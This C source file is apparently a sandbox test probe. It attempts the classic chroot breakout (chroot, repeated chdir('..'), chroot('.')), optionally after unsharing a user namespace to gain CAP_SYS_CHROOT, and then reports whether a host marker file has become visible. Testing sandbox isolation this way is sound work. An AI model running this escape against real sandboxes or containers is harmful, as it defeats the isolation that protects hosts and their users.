/* escape_chroot: the classic chroot breakout, from inside a sandbox.
 *
 *   escape_chroot MARKER_DEV:MARKER_INO MARKER_PATH HOST_ROOT_DEV:HOST_ROOT_INO [userns]
 *
 * 1. mkdir /tmp/gsb-jail, chroot("/tmp/gsb-jail") while the cwd stays outside, chdir("..")
 *    256 times, chroot(".") -- the textbook escape from a chroot(2) jail.
 * 2. With "userns": when chroot is refused, first unshare(CLONE_NEWUSER|CLONE_NEWNS) to get
 *    CAP_SYS_CHROOT in a nested user namespace (only possible without seccomp), so the escape
 *    really runs and only the sandbox's mount namespace (pivot_root + detached old root)
 *    stands between the probe and the host.
 * Then it looks for the host marker: by its path, through /proc/self/root and /proc/1/root,
 * and by walking the whole tree it can see (except /proc, /sys) comparing device:inode.
 *
 * Output lines (stdout): "chroot_jail errno=E", "unshare errno=E" (userns only),
 * "escaped=yes|no", "root_start=D:I", "root_end=D:I", "root_end_is_host=yes|no",
 * "marker_path=absent|VISIBLE", "marker_scan=absent|VISIBLE:PATH", "scanned=N".
 * Exit status 0 (2 for bad usage).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "errno_name.h"

static unsigned long long marker_dev, marker_ino;
static long scanned;
static char found[4096];

static int visit(const char* path, const struct stat* st, int type, struct FTW* ftw) {
  (void)type;
  (void)ftw;
  if (strcmp(path, "/proc") == 0 || strcmp(path, "/sys") == 0) return FTW_SKIP_SUBTREE;
  ++scanned;
  if ((unsigned long long)st->st_dev == marker_dev && (unsigned long long)st->st_ino == marker_ino) {
    snprintf(found, sizeof found, "%s", path);
    return FTW_STOP;
  }
  return FTW_CONTINUE;
}

static const char* seen(const char* path) {
  struct stat st;
  if (stat(path, &st) != 0) return "absent";
  if ((unsigned long long)st.st_dev == marker_dev && (unsigned long long)st.st_ino == marker_ino) return "VISIBLE";
  return "absent";
}

static void look(const char* marker) {
  char p[4096];
  printf("marker_path=%s\n", seen(marker));
  snprintf(p, sizeof p, "/proc/self/root%s", marker);
  printf("marker_proc_self_root=%s\n", seen(p));
  snprintf(p, sizeof p, "/proc/1/root%s", marker);
  printf("marker_proc_1_root=%s\n", seen(p));
  found[0] = 0;
  scanned = 0;
  nftw("/", visit, 64, FTW_PHYS | FTW_ACTIONRETVAL);
  if (found[0]) printf("marker_scan=VISIBLE:%s\n", found);
  else printf("marker_scan=absent\n");
  printf("scanned=%ld\n", scanned);
  fflush(stdout);
}

int main(int argc, char** argv) {
  unsigned long long host_dev, host_ino;
  if (argc < 4 || sscanf(argv[1], "%llu:%llu", &marker_dev, &marker_ino) != 2 ||
      sscanf(argv[3], "%llu:%llu", &host_dev, &host_ino) != 2) {
    fprintf(stderr, "usage: escape_chroot MDEV:MINO MARKER HOSTDEV:HOSTINO [userns]\n");
    return 2;
  }
  const char* marker = argv[2];
  int userns = argc > 4 && strcmp(argv[4], "userns") == 0;
  struct stat root0;
  if (stat("/", &root0) != 0) return 3;
  printf("root_start=%llu:%llu\n", (unsigned long long)root0.st_dev, (unsigned long long)root0.st_ino);
  look(marker);

  /* Created before any unshare: an unmapped nested user namespace cannot create files. */
  if (mkdir("/tmp/gsb-jail", 0755) != 0 && errno != EEXIST) {
    printf("mkdir errno=%s\n", ename(errno));
    return 0;
  }
  if (chdir("/") != 0) return 3;
  int r = chroot("/tmp/gsb-jail");
  printf("chroot_jail errno=%s\n", ename(r == 0 ? 0 : errno));
  if (r != 0 && userns) {
    int u = unshare(CLONE_NEWUSER | CLONE_NEWNS);
    printf("unshare errno=%s\n", ename(u == 0 ? 0 : errno));
    if (u == 0) {
      r = chroot("/tmp/gsb-jail");
      printf("chroot_jail_userns errno=%s\n", ename(r == 0 ? 0 : errno));
    }
  }
  if (r != 0) {
    printf("escaped=no\n");
    fflush(stdout);
    return 0;
  }
  /* The cwd is "/" of the old root, outside the jail: walk up as far as the kernel lets us. */
  for (int i = 0; i < 256; ++i)
    if (chdir("..") != 0) break;
  int rr = chroot(".");
  printf("chroot_dot errno=%s\n", ename(rr == 0 ? 0 : errno));
  printf("escaped=%s\n", rr == 0 ? "yes" : "no");
  struct stat root1;
  if (stat("/", &root1) != 0) return 3;
  printf("root_end=%llu:%llu\n", (unsigned long long)root1.st_dev, (unsigned long long)root1.st_ino);
  printf("root_end_is_host=%s\n",
         ((unsigned long long)root1.st_dev == host_dev && (unsigned long long)root1.st_ino == host_ino) ? "yes" : "no");
  printf("root_end_is_start=%s\n", (root1.st_dev == root0.st_dev && root1.st_ino == root0.st_ino) ? "yes" : "no");
  fflush(stdout);
  look(marker);
  return 0;
}
